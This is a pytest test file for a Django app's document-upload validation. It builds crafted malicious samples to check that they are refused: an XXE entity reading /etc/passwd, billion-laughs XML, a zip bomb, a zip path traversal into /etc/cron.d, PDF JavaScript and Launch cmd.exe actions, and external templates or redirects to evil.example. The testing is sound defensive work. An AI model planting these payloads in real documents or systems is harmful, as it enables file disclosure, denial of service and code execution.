"""Uploads: the type comes from the content; bad files get a clear message and nothing is
stored."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from documents.models import Document
from documents.samples import sample_docx, sample_odt, sample_pdf
from tests.helpers import document_fields

pytestmark = pytest.mark.django_db

ELF_HEADER = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
MZ_HEADER = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 200


def post_upload(world, name: str, data: bytes):
    client = world.client(world.author)
    upload = SimpleUploadedFile(name, data)
    return client.post(
        reverse("documents:create"), {**document_fields(world), "upload": upload, "save": "1"}
    )


def stored_files(settings) -> list:
    root = settings.MEDIA_ROOT
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def assert_refused(response, settings, fragment: str):
    assert response.status_code == 200
    assert fragment in response.content.decode()
    assert not Document.objects.exists()
    assert stored_files(settings) == []


@pytest.mark.parametrize(
    ("name", "data"),
    [("plan.pdf", ELF_HEADER), ("plan.docx", MZ_HEADER), ("plan.odt", b"just some text\n" * 10)],
)
def test_a_renamed_executable_or_text_is_refused(world, settings, name, data):
    response = post_upload(world, name, data)
    assert_refused(response, settings, "is not a .docx, .odt or .pdf document")


def test_an_oversized_file_is_refused(world, settings):
    settings.DOCUMENT_MAX_UPLOAD_BYTES = 50_000
    data = sample_pdf() + b"%" + b"x" * 60_000
    response = post_upload(world, "big.pdf", data)
    assert_refused(response, settings, "too large")


@pytest.mark.parametrize(
    ("name", "data", "kind"),
    [
        ("plan.docx", sample_docx("Өнүгүү программасы"), "docx"),
        ("plan.pdf", sample_pdf("Lesson plan"), "pdf"),
        ("plan.odt", sample_odt("Сабактын планы"), "odt"),
        # Upper-case extensions are the same extension; no extension disagrees with nothing.
        ("PLAN.PDF", sample_pdf("Upper case"), "pdf"),
        ("plan", sample_docx("No extension"), "docx"),
    ],
)
def test_a_valid_document_is_stored_and_downloadable_by_its_author(
    world, settings, name, data, kind
):
    response = post_upload(world, name, data)
    assert response.status_code == 302
    document = Document.objects.get()
    assert (document.file_kind, document.file_size) == (kind, len(data))
    assert document.file_name.endswith(f".{kind}")
    assert len(stored_files(settings)) == 1
    download = world.client(world.author).get(reverse("documents:draft_file", args=[document.pk]))
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == data
    assert download["X-Content-Type-Options"] == "nosniff"
    assert "attachment" in download["Content-Disposition"]
    # The working copy of a draft is its author's alone.
    for other in (world.chair, world.teacher2, world.outsider):
        assert (
            world.client(other).get(reverse("documents:draft_file", args=[document.pk])).status_code
            == 404
        )


def docx_with(parts: dict[str, bytes]) -> bytes:
    return sample_docx("x", extra_parts=parts)


EXTERNAL_TEMPLATE_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    b"</Relationships>"
)
HYPERLINK_RELS = EXTERNAL_TEMPLATE_RELS.replace(b"attachedTemplate", b"hyperlink").replace(
    b"t.dotm", b"page.html"
)


def zip_bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", b"\x00" * (30 * 1024 * 1024))
    return out.getvalue()


def path_traversal() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
        archive.writestr("../../etc/cron.d/x", "boom")
    return out.getvalue()


@pytest.mark.parametrize(
    ("case", "data", "fragment"),
    [
        ("macro", docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), "macros"),
        ("ole", docx_with({"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "macros"),
        ("activex", docx_with({"word/activeX/activeX1.xml": b"<ax/>"}), "macros"),
        (
            "external",
            docx_with({"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE_RELS}),
            "external",
        ),
        ("bomb", zip_bomb(), "unreasonable size"),
        ("traversal", path_traversal(), "unsafe paths"),
        (
            "pdf-js",
            sample_pdf().replace(
                b"/Type /Catalog",
                b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
            ),
            "scripts",
        ),
        (
            "pdf-js-escaped",
            sample_pdf().replace(
                b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript >>"
            ),
            "scripts",
        ),
        (
            "pdf-launch",
            sample_pdf().replace(
                b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /Launch /F (cmd.exe) >>"
            ),
            "scripts",
        ),
    ],
)
def test_dangerous_documents_are_refused(world, settings, case, data, fragment):
    response = post_upload(world, f"{case}.docx", data)
    assert_refused(response, settings, fragment)


def test_hyperlinks_in_a_docx_are_fine(world, settings):
    response = post_upload(
        world, "links.docx", docx_with({"word/_rels/document.xml.rels": HYPERLINK_RELS})
    )
    assert response.status_code == 302
    assert Document.objects.get().file_kind == "docx"


def test_the_refusal_is_translated(world, settings):
    world.author.language = "ky"
    world.author.save()
    response = post_upload(world, "plan.pdf", ELF_HEADER)
    from django.utils import translation

    with translation.override("ky"):
        from documents.uploads import not_a_document

        message = not_a_document().messages[0]
    assert message != "This file is not a .docx, .odt or .pdf document. Please choose another file."
    assert message in response.content.decode()


def pdf_with_compressed_javascript() -> bytes:
    """JavaScript hidden in a compressed object stream, as PDF 1.5+ writers store it."""
    import zlib

    hidden = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")
    objstm = (
        b"6 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
        + str(len(hidden)).encode()
        + b" >>\nstream\n"
        + hidden
        + b"\nendstream\nendobj\n"
    )
    pdf = sample_pdf().replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction 5 0 R")
    return pdf.replace(b"xref", objstm + b"xref", 1)


def test_javascript_inside_a_compressed_object_stream_is_refused(world, settings):
    data = pdf_with_compressed_javascript()
    assert b"/JavaScript" not in data  # invisible to a plain byte scan
    response = post_upload(world, "hidden.pdf", data)
    assert_refused(response, settings, "scripts")


def test_the_frozen_version_carries_the_hash_of_the_checked_upload(world, settings):
    import hashlib

    from tests.helpers import create_and_submit

    document = create_and_submit(world)
    version = document.versions.get()
    with version.file.open("rb") as handle:
        assert version.sha256 == hashlib.sha256(handle.read()).hexdigest()


# Crafted files refused at upload (nothing stored, a message that names what is wrong).

BILLION_LAUGHS = (
    b'<?xml version="1.0"?>'
    b'<!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&lol3;</w:t></w:r></w:p></w:body></w:document>"
)
XXE_CONTENT_TYPES = (
    b'<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="&xxe;"/></Types>'
)
PLAIN_DTD_STYLES = (
    b'<?xml version="1.0"?><!DOCTYPE styles SYSTEM "http://evil.example/s.dtd"><styles/>'
)


def docx_replacing(part: str, data: bytes) -> bytes:
    """A sample .docx with one of its parts replaced."""
    source = zipfile.ZipFile(io.BytesIO(sample_docx("Өнүгүү")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info.filename, data if info.filename == part else source.read(info))
    return out.getvalue()


def docx_with_a_bad_crc() -> bytes:
    payload = b"BINARY-PAYLOAD-" * 20
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for info in zipfile.ZipFile(io.BytesIO(sample_docx("x"))).infolist():
            archive.writestr(info, zipfile.ZipFile(io.BytesIO(sample_docx("x"))).read(info))
        archive.writestr(zipfile.ZipInfo("word/media/image1.bin"), payload)  # stored as is
    data = bytearray(out.getvalue())
    at = data.index(payload)
    data[at + 5] ^= 0xFF  # one flipped byte: the entry no longer matches its CRC
    return bytes(data)


def docx_with_a_duplicate_entry(other_case: bool = False) -> bytes:
    import warnings

    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate, as it should
        with zipfile.ZipFile(out, "w") as archive:
            source = zipfile.ZipFile(io.BytesIO(sample_docx("Checked text")))
            for info in source.infolist():
                archive.writestr(info.filename, source.read(info))
            second = "WORD/DOCUMENT.XML" if other_case else "word/document.xml"
            archive.writestr(second, source.read("word/document.xml").replace(b"Checked", b"Other"))
    return out.getvalue()


def with_encrypted_flag(data: bytes) -> bytes:
    """Mark every entry encrypted (bit 0 of the flags) in its local and central headers."""
    import struct

    out = bytearray(data)
    for signature, flag_offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := out.find(signature, start)) >= 0:
            (flags,) = struct.unpack_from("<H", out, at + flag_offset)
            struct.pack_into("<H", out, at + flag_offset, flags | 0x1)
            start = at + 4
    return bytes(out)


def odt_encrypted() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(sample_odt("Сыр")))
    manifest = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        b'<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
        b'<manifest:algorithm manifest:algorithm-name="Blowfish CFB" '
        b'manifest:initialisation-vector="AAAA"/></manifest:encryption-data>'
        b"</manifest:file-entry></manifest:manifest>"
    )
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for info in source.infolist():
            data = manifest if info.filename == "META-INF/manifest.xml" else source.read(info)
            archive.writestr(info, data)
    return out.getvalue()


HTML_IN_PDF_CLOTHES = (
    b"%PDF-1.7\n<html><body><h1>Invoice</h1><script>location='http://evil.example'</script>"
    b"</body></html>\n%%EOF\n"
)


def pdf_without_pages() -> bytes:
    pdf = sample_pdf("x").replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0")
    return pdf


def pdf_with_a_password() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(sample_pdf("Secret")))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


OLE_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600


@pytest.mark.parametrize(
    ("case", "name", "data", "fragment"),
    [
        (
            "billion laughs",
            "laughs.docx",
            docx_replacing("word/document.xml", BILLION_LAUGHS),
            "DTD or entity declarations (word/document.xml)",
        ),
        (
            "xxe in content types",
            "xxe.docx",
            docx_replacing("[Content_Types].xml", XXE_CONTENT_TYPES),
            "DTD or entity declarations ([Content_Types].xml)",
        ),
        (
            "a plain DTD in any part",
            "dtd.docx",
            docx_with({"word/styles.xml": PLAIN_DTD_STYLES}),
            "DTD or entity declarations (word/styles.xml)",
        ),
        (
            "a DTD in an odt",
            "dtd.odt",
            None,  # built below
            "DTD or entity declarations (content.xml)",
        ),
        ("bad crc", "crc.docx", docx_with_a_bad_crc(), "does not match its checksum"),
        (
            "duplicate entry",
            "twice.docx",
            docx_with_a_duplicate_entry(),
            "two files with the same name: word/document.xml",
        ),
        (
            "duplicate entry, other case",
            "twice.docx",
            docx_with_a_duplicate_entry(other_case=True),
            "two files with the same name",
        ),
        (
            "encrypted entries",
            "locked.docx",
            with_encrypted_flag(sample_docx("x")),
            "encrypted or password-protected",
        ),
        ("encrypted odt", "locked.odt", odt_encrypted(), "encrypted or password-protected"),
        ("old .doc or protected docx", "old.docx", OLE_DOC, "old-format Word file (.doc)"),
        ("html dressed as a pdf", "invoice.pdf", HTML_IN_PDF_CLOTHES, "not a readable PDF"),
        ("pdf without a page", "empty.pdf", pdf_without_pages(), "not a readable PDF"),
        ("pdf with a password", "secret.pdf", pdf_with_a_password(), "protected with a password"),
        (
            "a pdf named .docx",
            "plan.docx",
            sample_pdf("Misnamed"),
            "This file is a PDF document (.pdf), not .docx.",
        ),
        (
            "a docx named .pdf",
            "plan.pdf",
            sample_docx("Misnamed"),
            "This file is a Word document (.docx), not .pdf.",
        ),
        (
            "an odt named .docx",
            "plan.docx",
            sample_odt("Misnamed"),
            "This file is an OpenDocument text (.odt), not .docx.",
        ),
        ("a pdf named .txt", "notes.txt", sample_pdf("x"), "not .txt"),
    ],
)
def test_crafted_files_are_refused_at_upload(world, settings, case, name, data, fragment):
    if data is None:
        source = zipfile.ZipFile(io.BytesIO(sample_odt("x")))
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for info in source.infolist():
                body = source.read(info)
                if info.filename == "content.xml":
                    body = body.replace(b"?>", b"?><!DOCTYPE x [<!ENTITY e 'e'>]>", 1)
                archive.writestr(info, body)
        data = out.getvalue()
    response = post_upload(world, name, data)
    assert_refused(response, settings, fragment)


def test_an_unchanged_document_rebuilt_by_the_helpers_is_accepted(world, settings):
    """The crafting helpers alone do not make a file refused."""
    response = post_upload(world, "plan.docx", docx_replacing("word/styles.xml", b""))
    assert response.status_code == 302


def test_a_new_refusal_is_translated(world, settings):
    from django.utils import translation

    from documents.uploads import validate_document_upload

    upload = SimpleUploadedFile("plan.docx", sample_pdf("x"))
    with translation.override("ky"), pytest.raises(Exception) as refused:
        validate_document_upload(upload)
    message = refused.value.messages[0]
    assert ".docx" in message and "PDF" in message
    assert not message.startswith("This file is")
